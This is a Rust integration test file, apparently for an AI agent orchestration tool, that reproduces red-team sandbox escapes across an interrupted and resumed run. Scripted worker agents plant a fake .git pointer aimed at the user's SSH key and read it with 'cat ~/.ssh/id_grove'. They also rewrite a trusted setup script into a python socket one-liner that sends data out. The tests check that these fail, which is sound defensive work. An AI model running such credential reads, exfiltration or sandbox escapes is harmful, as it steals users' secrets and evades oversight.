@@ -1,0 +1,213 @@
+//! Issue 28's escapes across an interrupt and a resume, each reproduced as the red team
+//! did it, in both worktree modes: a worker plants a `.git` pointer whose "git dir"
+//! names the user's key as its HEAD ref, then the run is interrupted and resumed; a
+//! worker rewrites the trusted setup script, then the run is interrupted and resumed.
+//! (The agent socket is `sandbox_services`'s, the check's network `check`'s.)
+#![allow(clippy::unwrap_used, clippy::expect_used, clippy::print_stderr)]
+
+use std::net::TcpListener;
+use std::time::Duration;
+
+use pretty_assertions::assert_eq;
+use serde_json::json;
+
+use grove::tools::tree::WorktreeMode;
+
+use crate::suite::overlay::overlay_or_skip;
+use crate::suite::sandbox::{SECRET, sandbox_or_skip};
+use crate::support::fake_server::{FakeServer, RecordedRequest, Reply, Turn};
+use crate::support::git_fixture::GitFixture;
+use crate::support::grove::{Grove, stderr, wait_in_worktrees};
+use crate::support::requests::{Who, who};
+use crate::support::scripted_run::{lead_reply, reviewer_reply, usage};
+
+/// Whether `mode` can run here: the sandbox always, copy-on-write trees where allowed.
+async fn mode_or_skip(test: &str, fixture: &GitFixture, mode: WorktreeMode) -> bool {
+    if !sandbox_or_skip(test) {
+        return false;
+    }
+    mode != WorktreeMode::Overlay
+        || overlay_or_skip(test, fixture.open().await.worktrees_home()).await
+}
+
+/// A worker that runs `first` in its first turn, and once resumed (its pending call
+/// answered as interrupted) runs `after`, then ends.
+fn worker(request: &RecordedRequest, first: &str, after: &str) -> Reply {
+    let results = request.tool_results();
+    let turn = match results.last() {
+        None => Turn::text("Starting.").tool_use("plant", "bash", json!({ "command": first })),
+        Some((id, _)) if id == "plant" => {
+            Turn::text("Again.").tool_use("probe", "bash", json!({ "command": after }))
+        }
+        Some(_) => Turn::text("Done."),
+    };
+    usage(turn).into()
+}
+
+/// Runs `grove run` until the worker's first command wrote `flag`, interrupts it with
+/// Ctrl-C (SIGINT) while that command still runs, then `grove resume`s the run: the
+/// resume's output.
+async fn interrupted_then_resumed(
+    fixture: &GitFixture,
+    server: &FakeServer,
+    mode: WorktreeMode,
+    setup: Option<&str>,
+) -> std::process::Output {
+    let mut config = format!("[worktree]\nmode = \"{mode}\"\n");
+    if let Some(setup) = setup {
+        config.push_str(&format!("setup = {setup:?}\nper_worker = true\n"));
+    }
+    fixture.write(".grove/config.toml", config);
+    fixture.commit_all("grove's configuration");
+    let grove = Grove::in_repo(fixture).with_server(server);
+    if setup.is_some() {
+        let trusted = grove.grove_async(["trust"]).await;
+        assert_eq!(trusted.status.code(), Some(0), "{}", stderr(&trusted));
+    }
+    let mut child = grove.spawn(["run", "--jobs", "1", "tidy the project"]);
+    wait_in_worktrees(fixture, "flag", b"planted\n").await;
+    nix::sys::signal::kill(
+        nix::unistd::Pid::from_raw(i32::try_from(child.id().unwrap()).unwrap()),
+        nix::sys::signal::Signal::SIGINT,
+    )
+    .unwrap();
+    let stopped = tokio::time::timeout(Duration::from_secs(60), child.wait())
+        .await
+        .expect("grove stops on Ctrl-C")
+        .unwrap();
+    assert_eq!(stopped.code(), Some(130), "interrupted: exit 130");
+    let runs = grove.grove_async(["runs", "--json"]).await;
+    let runs: serde_json::Value = serde_json::from_slice(&runs.stdout).unwrap();
+    let run_id = runs[0]["run_id"].as_str().unwrap().to_owned();
+    tokio::time::timeout(
+        Duration::from_secs(120),
+        grove.grove_async(["resume", "--json", &run_id]),
+    )
+    .await
+    .expect("the resumed run ends")
+}
+
+/// The output of the worker's command after the resume.
+fn probe_output(server: &FakeServer) -> String {
+    server
+        .requests()
+        .iter()
+        .filter(|request| who(request) == Who::Worker)
+        .flat_map(|request| request.tool_results())
+        .filter(|(id, _)| id == "probe")
+        .map(|(_, text)| text)
+        .next()
+        .expect("the resumed worker ran its probe")
+}
+
+async fn a_planted_git_pointer_reads_no_file_after_a_resume(mode: WorktreeMode) {
+    let fixture = GitFixture::with_files(&[("README", "the project\n")]);
+    if !mode_or_skip(
+        "a_planted_git_pointer_reads_no_file_after_a_resume",
+        &fixture,
+        mode,
+    )
+    .await
+    {
+        return;
+    }
+    let home = fixture.home();
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_grove"), SECRET).unwrap();
+    // The red team's pointer: a "git dir" in the tree whose common dir is $HOME and whose
+    // HEAD ref is the key; the command then sleeps so that the interrupt comes before
+    // grove can put the pointer back.
+    let plant = "mkdir -p gd && echo \"$HOME\" > gd/commondir && \
+                 echo 'ref: .ssh/id_grove' > gd/HEAD && printf 'gitdir: gd\\n' > .git && \
+                 echo planted > flag && sleep 60";
+    let probe = "echo HOME=$HOME; cat ~/.ssh/id_grove; cat .git";
+    let server = FakeServer::with_responder(move |request| match who(request) {
+        Who::Lead => lead_reply(request, &[("Tidy the README.", None)]),
+        Who::Worker => worker(request, plant, probe),
+        Who::Reviewer => reviewer_reply(request),
+    })
+    .await;
+    let resumed = interrupted_then_resumed(&fixture, &server, mode, None).await;
+
+    server.assert_no_violations();
+    assert_eq!(resumed.status.code(), Some(0), "{}", stderr(&resumed));
+    let output = probe_output(&server);
+    assert!(
+        !output.contains(SECRET) && output.contains("Permission denied"),
+        "after the resume the planted pointer grants nothing: the key is unreadable \
+         ({mode}): {output}"
+    );
+    assert!(
+        output.contains("gitdir: ") && !output.contains("gitdir: gd"),
+        "the registered pointer was written back before the resumed command ran \
+         ({mode}): {output}"
+    );
+    assert!(
+        !server
+            .requests()
+            .iter()
+            .any(|request| request.raw_body.contains(SECRET)),
+        "the key reached no model ({mode})"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_planted_git_pointer_reads_no_file_after_a_resume_in_a_git_worktree() {
+    a_planted_git_pointer_reads_no_file_after_a_resume(WorktreeMode::Git).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_planted_git_pointer_reads_no_file_after_a_resume_in_a_copy_on_write_tree() {
+    a_planted_git_pointer_reads_no_file_after_a_resume(WorktreeMode::Overlay).await;
+}
+
+async fn a_rewritten_setup_never_runs_on_resume(mode: WorktreeMode) {
+    let fixture = GitFixture::with_files(&[
+        ("README", "the project\n"),
+        ("scripts/setup.sh", "echo setting up\n"),
+    ]);
+    if !mode_or_skip("a_rewritten_setup_never_runs_on_resume", &fixture, mode).await {
+        return;
+    }
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    // The worker turns the trusted script into one that sends what it reads out, then
+    // sleeps so that the interrupt comes while its tree holds the change.
+    let plant = format!(
+        "printf '%s\\n' \"python3 -c \\\"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5).sendall(b'stolen')\\\"\" \
+         > scripts/setup.sh && echo planted > flag && sleep 60"
+    );
+    let server = FakeServer::with_responder(move |request| match who(request) {
+        Who::Lead => lead_reply(request, &[("Tidy the setup.", None)]),
+        Who::Worker => worker(request, &plant, "cat scripts/setup.sh | head -c 40; echo"),
+        Who::Reviewer => reviewer_reply(request),
+    })
+    .await;
+    let resumed =
+        interrupted_then_resumed(&fixture, &server, mode, Some("sh scripts/setup.sh")).await;
+
+    server.assert_no_violations();
+    let stolen = std::iter::from_fn(|| listener.accept().ok()).count();
+    assert_eq!(
+        stolen,
+        0,
+        "the rewritten setup never ran with the network on resume ({mode}): {}",
+        stderr(&resumed)
+    );
+    assert!(
+        probe_output(&server).contains("python3 -c"),
+        "the worker's rewrite was still in its tree when the run resumed, so the test \
+         can fail ({mode})"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_rewritten_setup_never_runs_on_resume_in_a_git_worktree() {
+    a_rewritten_setup_never_runs_on_resume(WorktreeMode::Git).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
+async fn a_rewritten_setup_never_runs_on_resume_in_a_copy_on_write_tree() {
+    a_rewritten_setup_never_runs_on_resume(WorktreeMode::Overlay).await;
+}
